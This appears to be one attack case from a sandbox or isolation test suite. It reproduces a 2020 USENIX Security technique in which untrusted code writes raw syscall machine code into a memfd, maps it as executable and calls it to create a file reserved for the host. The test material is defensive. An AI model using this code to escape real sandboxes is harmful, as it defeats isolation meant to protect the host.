/* Tries: to map code from a file of its own making, in which it can change it
 * From: PKU Pitfalls (Connor et al., USENIX Security 2020): two mappings of one page
 * Observed: A file that only the host may make.
 * Needs: linux */
#include "attacks/attack.h"

FOREIGN(run)
{
    /* open(path, O_CREAT | O_WRONLY, 0600) */
    static const uint8_t code[] = {0xb8, SYS_open, 0, 0, 0, 0x0f, 0x05, 0xc3};

    int file = (int)kernel3(SYS_memfd_create, ADDRESS("code"), 1, 0);
    kernel3(SYS_write, (uint64_t)file, ADDRESS(code), sizeof(code));
    long page = kernel6(SYS_mmap, 0, 4096, 5, 1, (uint64_t)file, 0);
    kernel3(SYS_close, (uint64_t)file, 0, 0);
    if (page < 0 && page > -4096)
        return 1;
    ((long (*)(const char *, int, int))(uintptr_t)page)(at->path, 0101, 0600);
    return 0;
}
